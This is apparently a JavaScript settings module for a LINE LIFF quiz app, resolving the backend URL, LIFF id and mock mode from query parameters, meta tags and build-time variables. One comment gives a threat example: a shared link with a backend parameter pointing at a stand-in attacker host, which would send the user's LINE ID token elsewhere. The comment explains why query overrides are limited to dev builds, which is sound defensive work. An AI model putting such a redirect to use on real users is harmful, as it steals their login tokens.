// Run-time settings of the quiz app. Precedence: query parameter (only where allowed, below) >
// <meta name="kizuna-…"> (in the served HTML, e.g. injected by serve.mjs) > build-time env
// (VITE_…) > default.
//
// Query parameters, read ONLY by the Vite dev server (`npx vite`) or by a build made with
// VITE_KIZUNA_QUERY_SETTINGS=1 (never in a production build: a shared link such as
// https://liff.line.me/<id>?backend=https://evil.example would otherwise send the user's LINE
// ID token and decision to any host):
//   ?backend=URL   backend base URL; decisions are POSTed to {backend}/decisions
//   ?liffId=ID     LIFF app id
//   ?mock=1|0      force @line/liff-mock on (1) or off (0); default: on only when no LIFF id
//                  is configured; `client`, `client-denied`, `client-nochat`: the mock as if
//                  inside LINE (see liff.js useMock)
export const queryOverrides = Boolean(import.meta.env.DEV) || import.meta.env.VITE_KIZUNA_QUERY_SETTINGS === "1";
const query = new URLSearchParams(queryOverrides ? location.search : "");

function meta(name) {
  return document.querySelector(`meta[name="${name}"]`)?.getAttribute("content") || undefined;
}

function pick(param, metaName, env) {
  return query.get(param) || meta(metaName) || env || undefined;
}

export const settings = {
  backend: pick("backend", "kizuna-backend", import.meta.env.VITE_KIZUNA_BACKEND)?.replace(/\/+$/, ""),
  liffId: pick("liffId", "kizuna-liff-id", import.meta.env.VITE_LIFF_ID),
  mock: pick("mock", "kizuna-liff-mock", import.meta.env.VITE_LIFF_MOCK) || "auto",
};
